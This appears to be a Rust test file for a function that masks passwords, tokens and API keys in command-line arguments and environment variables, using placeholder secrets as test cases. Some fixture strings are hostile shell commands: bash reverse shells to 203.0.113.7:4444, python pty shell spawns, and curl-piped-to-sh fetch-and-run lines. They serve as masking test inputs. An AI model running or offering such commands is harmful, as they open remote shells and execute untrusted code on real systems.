//! How secrets are passed, and what only looks like one. Arguments are separated by `¦`; `«»` stand around a secret.

use super::{mask, mask_environment};

/// Secrets, in the ways in which they are passed.
pub(crate) const PASSED: &[&str] = &[
    // Databases
    "mysql¦-u¦root¦-p«hunter2»¦shop",
    "mysql¦--password=«hunter2»¦-u¦root",
    "mysql¦--password=«a;b c»¦-u¦root",
    "/usr/bin/mysqldump¦-p«hunter2»¦--all-databases",
    "mariadb¦-h¦db¦-p«hunter2»",
    "mysqladmin¦-u¦root¦password¦«hunter2»",
    "mysql¦-e¦ALTER USER x IDENTIFIED BY '«hunter2»'",
    "psql¦postgres://me:«hunter2»@db/x",
    "psql¦host=db password=«hunter2» user=me",
    "psql¦-c¦ALTER USER x WITH PASSWORD '«hunter2»';",
    "redis-cli¦-h¦cache¦-a¦«hunter2»¦ping",
    "redis-cli¦--pass¦«hunter2»",
    "redis-cli¦AUTH¦«hunter2»",
    "redis-cli¦-u¦redis://:«hunter2»@cache:6379",
    "mongo¦-u¦me¦-p¦«hunter2»",
    "mongosh¦mongodb://me:«hunter2»@h1,h2/db?x=y",
    "mongodump¦--password¦«hunter2»",
    "sqlcmd¦-S¦db¦-U¦sa¦-P¦«hunter2»",
    "sqlplus¦-s¦me/«hunter2»@db",
    "clickhouse-client¦--password¦«hunter2»¦--query¦SELECT 1",
    "cqlsh¦-u¦me¦-p¦«hunter2»",
    "app¦Server=db;User Id=sa;Password=«hunter2»;Timeout=3",
    // Transfers and requests
    "curl¦-u¦me:«hunter2»¦https://h/x",
    "curl¦-sSu¦me:«hunter2»¦https://h/x",
    "curl¦-ume:«hunter2»¦https://h/x",
    "curl¦--user¦me:«hunter2»¦https://h/x",
    "curl¦--user=me:«hunter2»¦https://h/x",
    "curl¦-U¦me:«hunter2»¦-x¦proxy:3128¦https://h/",
    "curl¦--proxy-user¦me:«hunter2»¦https://h/",
    "curl¦--oauth2-bearer¦«abcdef»¦https://h/",
    "curl¦-H¦Authorization: Bearer «abc»¦https://h/",
    "curl¦-H¦Authorization: Basic «bWU6aHVudGVyMg==»¦https://h/",
    "curl¦-H¦authorization: token «abc»¦https://h/",
    "curl¦-H¦Authorization: «abc123def456»¦https://h/",
    "curl¦-H¦Proxy-Authorization: Basic «bWU6aHVudGVyMg==»¦https://h/",
    "curl¦-H¦X-Api-Key: «abc»¦https://h/",
    "curl¦-HX-Api-Key:«abc»¦https://h/",
    "curl¦-H¦PRIVATE-TOKEN: «abcdef»¦https://h/",
    "curl¦-H¦apikey: «abcdef»¦https://h/",
    "curl¦-d¦{\"user\":\"me\",\"password\":\"«a b;c»\"}¦https://h/login",
    "curl¦-d¦{\"api_key\" : \"«abc»\", \"n\": 1}¦https://h/",
    "curl¦-d¦{\"pin\":1,\"password\":«123456»}¦https://h/",
    "curl¦-d¦user=me&password=«hunter2»&x=y¦https://h/",
    "curl¦-F¦token=«abcdef»¦https://h/",
    "curl¦https://h/x?a=b&access_key=«abc»&c=d",
    "curl¦https://h/x?token=«abcdef»&a=b",
    "curl¦https://h/maps?key=«abcdef»&a=b",
    "curl¦https://h/x?X-Amz-Signature=«abcdef»",
    "curl¦https://me:«hunter2»@h/x",
    "curl¦ftp://me:«hunter2»@h/x",
    "curl¦-x¦http://me:«hunter2»@proxy:3128¦https://h/",
    "wget¦--user=me¦--password=«hunter2»¦https://h/",
    "wget¦--http-password=«hunter2»¦https://h/",
    "wget¦--header=Authorization: Bearer «abc»¦https://h/",
    "http¦-a¦me:«hunter2»¦h/x",
    "http¦h/x¦X-Api-Key:«abc»",
    "lftp¦-u¦me,«hunter2»¦h",
    "git¦clone¦https://me:«hunter2»@h/x.git",
    "git¦clone¦https://«0123456789abcdef0123»@h/x.git",
    "git¦-c¦http.extraHeader=Authorization: Basic «bWU6aHVudGVyMg==»¦fetch",
    // Machines and directories
    "sshpass¦-p¦«hunter2»¦ssh¦-p¦2222¦me@h",
    "sshpass¦-p«hunter2»¦ssh¦-p¦2222¦me@h",
    "plink¦-pw¦«hunter2»¦h",
    "xfreerdp¦/u:me¦/p:«hunter2»¦/v:h",
    "smbclient¦-U¦me%«hunter2»¦//h/share",
    "rpcclient¦-U¦D/me%«hunter2»¦h",
    "mount¦-t¦cifs¦-o¦username=me,password=«hunter2»,uid=0¦//h/s¦/mnt",
    "ldapsearch¦-x¦-D¦cn=me¦-w¦«hunter2»¦-b¦dc=x",
    "ldappasswd¦-s¦«hunter2»¦cn=me",
    "snmpwalk¦-v2c¦-c¦«secretive»¦h",
    "ipmitool¦-U¦me¦-P¦«hunter2»¦power¦status",
    "nmcli¦dev¦wifi¦connect¦home¦password¦«hunter2»",
    "useradd¦-p¦«$6$abc$def»¦me",
    "htpasswd¦-b¦/etc/x¦me¦«hunter2»",
    // Clouds and clusters
    "docker¦login¦-u¦me¦-p¦«hunter2»¦registry",
    "docker¦login¦-u¦me¦--password¦«hunter2»",
    "docker¦run¦-e¦DB_PASSWORD=«hunter2»¦app",
    "docker¦run¦--env=STRIPE_KEY=«abcdef»¦app",
    "docker¦exec¦db¦mysql¦-p«hunter2»",
    "helm¦upgrade¦x¦y¦--set¦db.password=«hunter2»,replicas=2",
    "helm¦upgrade¦x¦y¦--set=db.password=«hunter2»,replicas=2",
    "helm¦registry¦login¦-u¦me¦-p¦«hunter2»¦h",
    "kubectl¦create¦secret¦generic¦x¦--from-literal=user=«hunter2»",
    "kubectl¦create¦secret¦docker-registry¦x¦--docker-password=«hunter2»",
    "kubectl¦--token=«abcdef»¦get¦pods",
    "kubectl¦exec¦pod¦--¦mysql¦-p«hunter2»",
    "skopeo¦copy¦--src-creds¦me:«hunter2»¦docker://a¦docker://b",
    "aws¦configure¦set¦aws_secret_access_key¦«abcdef»",
    "az¦login¦-u¦me¦-p¦«hunter2»",
    "az¦storage¦blob¦list¦--account-key¦«abcdef==»",
    "vault¦kv¦put¦secret/x¦password=«hunter2»",
    "vault¦login¦«abcdef»",
    "terraform¦apply¦-var¦db_password=«hunter2»",
    "ansible-playbook¦-e¦ansible_become_pass=«hunter2»¦x.yml",
    "npm¦config¦set¦//r/:_authToken¦«abcdef»",
    "npm¦publish¦--//r/:_authToken=«abcdef»",
    "twine¦upload¦-u¦me¦-p¦«hunter2»¦dist",
    "cargo¦publish¦--token¦«abcdef»",
    "gh¦x¦ghp_«0123456789abcdefghij»",
    "app¦glpat-«0123456789abcdefghij»",
    // Files and keys
    "openssl¦rsa¦-passin¦pass:«hunter2»¦-in¦x",
    "openssl¦enc¦-aes-256-cbc¦-pass¦pass:«hunter2»",
    "openssl¦enc¦-aes-256-cbc¦-k¦«hunter2»",
    "zip¦-P¦«hunter2»¦x.zip¦x",
    "7z¦a¦-p«hunter2»¦x.7z¦x",
    "gpg¦--batch¦--passphrase¦«hunter2»¦-d¦x",
    "keytool¦-list¦-storepass¦«hunter2»",
    "java¦-Djavax.net.ssl.keyStorePassword=«hunter2»¦-jar¦x.jar",
    "java¦-Dspring.datasource.password=«hunter2»¦App",
    // Variables
    "env¦DB-PASSWORD=«abc»¦sh",
    "env¦PGPASSWORD=«hunter2»¦psql",
    "env¦AWS_SECRET_ACCESS_KEY=«abcdef»¦aws¦s3¦ls",
    "sudo¦-u¦postgres¦mysql¦-p«hunter2»",
    // Within what a shell runs
    "sh¦-c¦mysql -u root -p«hunter2» shop; id",
    "sh¦-c¦mysql -u root -p'«hunter2»' shop",
    "sh¦-c¦app --password=«hunter2»; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "sh¦-c¦app --password «hunter2» && id",
    "sh¦-c¦app --password '«hunter2»' | sh",
    "sh¦-c¦PASSWORD=«hunter2»; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "sh¦-c¦PASSWORD=\"«hunter2»\" exec app",
    "sh¦-c¦export DB_PASSWORD=«hunter2» STRIPE_KEY=«abcdef»; app",
    "sh¦-c¦curl -u me:«hunter2» https://h/ | sh",
    "sh¦-c¦curl -H 'X-Api-Key: «abc»' https://h/ | sh",
    "sh¦-c¦curl -H \"Authorization: Bearer «abc»\" https://h/ | base64 -d | sh",
    "sh¦-c¦curl -d '{\"password\":\"«hunter2»\"}' https://h/; id",
    "sh¦-c¦curl -d \"{\\\"password\\\":\\\"«hunter2»\\\"}\" https://h/; id",
    "sh¦-c¦curl https://me:«hunter2»@h/ | sh",
    "sh¦-c¦redis-cli -a «hunter2» ping",
    "sh¦-c¦sshpass -p «hunter2» ssh -p 2222 me@h id",
    "sh¦-c¦docker login -p «hunter2» r && docker run -p 8080:80 x",
    "bash¦-lc¦cd /srv && PGPASSWORD=«hunter2» psql -h db",
    "sh¦-c¦bash -c \"mysql -p«hunter2» x; id\"",
    "sh¦-c¦if mysql -p«hunter2» -e x; then id; fi",
    "sh¦-c¦X=$(mysql -p«hunter2» -e x) id",
    "ssh¦h¦mysql -p«hunter2» x",
    "su¦-¦me¦-c¦mysql -p«hunter2» x; id",
    "python3¦-c¦password=\"«hunter2»\";import socket,pty;pty.spawn('/bin/sh')",
    "sh¦-c¦SECRET_TOKEN=«abcdef»|id",
];

/// What only looks like a secret.
const HARMLESS: &[&str] = &[
    "docker¦run¦-p¦8080:80¦nginx",
    "docker¦run¦--name¦mysql¦-p3306:3306¦mysql:8",
    "docker¦build¦--secret¦id=npm,src=/run/npm¦.",
    "docker¦login¦--password-stdin¦-u¦me",
    "mkdir¦-p¦/srv/a",
    "cp¦-a¦/srv/a¦/srv/b",
    "ssh¦-p¦2222¦me@h",
    "scp¦-P¦2222¦a¦h:b",
    "ps¦-p¦1¦-o¦pid",
    "nginx¦-p¦/etc/nginx",
    "tar¦-xpf¦x.tar",
    "curl¦http://host:80/a@b",
    "curl¦-u¦me¦https://h/",
    "curl¦-X¦POST¦https://h/token",
    "curl¦https://h/?key_id=abcdef&page=2",
    "git¦clone¦git@github.com:a/b.git",
    "git¦commit¦-m¦basic support for tokens",
    "git¦log¦--author=Token Smith",
    "echo¦visual basic rocks",
    "echo¦the bearer of bad news",
    "echo¦authorization is required here",
    "app¦--token-file¦/run/t",
    "app¦--password-file=/x",
    "app¦--password¦--verbose",
    "app¦--private-key¦/etc/tls/x.pem",
    "app¦--private-key=id.pem",
    "app¦--no-password¦shop",
    "app¦author=me",
    "app¦--max-tokens=100",
    "app¦--pass-through¦x",
    "app¦bypass=yes",
    "app¦tokens=abcdef",
    "app¦DB_PASSWORD_FILE=/run/secrets/db",
    "app¦SSH_KEY=/root/.ssh/id_ed25519",
    "gh¦auth¦login¦--with-token¦--hostname",
    "psql¦--password¦shop",
    "mysql¦--password¦shop",
    "mysql¦-P¦3306¦-h¦db",
    "redis-cli¦-p¦6379¦ping",
    "openssl¦enc¦-pass¦env:PW¦-in¦x",
    "openssl¦enc¦-pass¦file:/run/pw",
    "kubectl¦get¦secret¦registry",
    "kubectl¦describe¦secrets¦-n¦token-system",
    "ls¦/etc/passwd",
    "grep¦password¦/etc/app.conf",
    "grep¦-r¦PRIVATE KEY¦/srv",
    "find¦/¦-name¦id_rsa",
    "sh¦-c¦for token in a b; do echo $token; done",
    "sh¦-c¦token=1; while [ $token != 9 ]; do token=$((token+1)); done",
    "sh¦-c¦PASSWORD=1; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "sh¦-c¦: basic ; echo aWQK|base64 -d|sh",
    "sh¦-c¦echo \"visual basic rocks\"; curl http://h/ | sh",
    "sh¦-c¦mysql -p\"$PASSWORD\" shop",
    "sh¦-c¦app --password \"$PASSWORD\"",
    "sh¦-c¦PASSWORD=$(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1)",
    "sh¦-c¦PASSWORD=\"$(cat /run/secrets/db)\" app",
    "sh¦-c¦X_PASSWORD=/dev/tcp/203.0.113.7/4444; bash -i >& $X_PASSWORD 0>&1",
    "sh¦-c¦curl -H \"Authorization: Bearer $TOKEN\" https://h/",
    "sh¦-c¦[ \"$password\" = \"\" ] && exit",
    "python3¦-c¦password=\"\";import socket,pty;pty.spawn('/bin/sh')",
    "python3¦-c¦token = get(1); print(token)",
    "python3¦-c¦password=input(); print(password == 'x')",
];

fn masked(args: &str) -> String {
    let mut bytes = args.replace('¦', "\0").into_bytes();
    mask(&mut bytes);
    String::from_utf8_lossy(&bytes).replace('\0', "¦")
}

#[test]
fn secrets_are_masked_and_nothing_else_is() {
    assert!(PASSED.len() >= 80);
    let mut wrong = Vec::new();
    for case in PASSED {
        let (mut expected, mut is_secret) = (String::new(), false);
        for c in case.chars() {
            match c {
                '«' => is_secret = true,
                '»' => is_secret = false,
                _ => expected.push(if is_secret { '*' } else { c }),
            }
        }
        let is = masked(&case.replace(['«', '»'], ""));
        if is != expected {
            wrong.push(format!("{expected}\n  is {is}"));
        }
    }
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), PASSED.len(), wrong.join("\n"));
}

#[test]
fn what_only_looks_like_a_secret_stays() {
    assert!(HARMLESS.len() >= 40);
    let wrong: Vec<String> = HARMLESS.iter().map(|case| masked(case)).filter(|is| is.contains('*')).collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), HARMLESS.len(), wrong.join("\n"));
}

#[test]
fn variables_are_masked_by_what_their_names_speak_of() {
    for (variables, expected) in [
        ("DB_PASSWORD=abc HOME=/root", "DB_PASSWORD=*** HOME=/root"),
        ("AWS_SECRET_ACCESS_KEY=abc AWS_REGION=x", "AWS_SECRET_ACCESS_KEY=*** AWS_REGION=x"),
        ("STRIPE_KEY=abc SSH_AUTH_SOCK=/s", "STRIPE_KEY=*** SSH_AUTH_SOCK=/s"),
        ("PWD=/srv OLDPWD=/ MYSQL_PWD=abc", "PWD=/srv OLDPWD=/ MYSQL_PWD=***"),
        ("TOKEN_FILE=/run/t TOKEN=", "TOKEN_FILE=/run/t TOKEN="),
        ("DATABASE_URL=postgres://me:abc@db/x", "DATABASE_URL=postgres://me:***@db/x"),
        ("PASSWORD --token abc", "PASSWORD --token abc"),
    ] {
        let mut bytes = variables.replace(' ', "\0").into_bytes();
        mask_environment(&mut bytes);
        assert_eq!(String::from_utf8_lossy(&bytes).replace('\0', " "), expected);
    }
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_masked_within_their_length(bytes: Vec<u8>) {
        let mut masked = bytes.clone();
        mask(&mut masked);
        assert_eq!(masked.len(), bytes.len());
        // Where an argument ends is never changed.
        assert!(masked.iter().zip(&bytes).all(|(is, was)| (*is == 0) == (*was == 0)));
        mask_environment(&mut masked);
    }

    #[test]
    fn any_text_of_a_shell_is_masked_within_its_length(text in r#"(mysql|curl|sh|-p|-u|-c|--password|token=|"|'|\\| |\$|\(|:|=|;|\x00|é|://|@|authorization|bearer |SG\.|a1){0,40}"#) {
        let mut masked = text.clone().into_bytes();
        mask(&mut masked);
        assert_eq!(masked.len(), text.len());
    }
}
